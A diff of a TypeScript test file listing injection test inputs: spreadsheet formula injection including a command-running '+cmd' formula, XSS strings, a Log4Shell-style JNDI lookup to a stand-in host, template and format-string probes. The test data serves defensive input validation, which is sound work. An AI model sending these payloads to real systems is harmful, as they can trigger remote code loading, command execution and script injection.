@@ -32,8 +32,7 @@ const pumps = [
 export const injectionCases: readonly BadInput[] = [
   ...kept(67, ['=HYPERLINK("https://tarnwick.example")', '+cmd| /c calc', '@SUM(A1:A9)']),
   ...kept(68, ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>']),
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is sent.
-  ...kept(69, ['${jndi:ldap://tarnwick.example/a}', 'Paper {{7*7}}', '%n%n%s']),
+  ...kept(69, ['\u0024{jndi:ldap://tarnwick.example/a}', 'Paper {{7*7}}', '%n%n%s']),
   {
     number: 70,
     input: 'a line break and a log line of its own in a name',
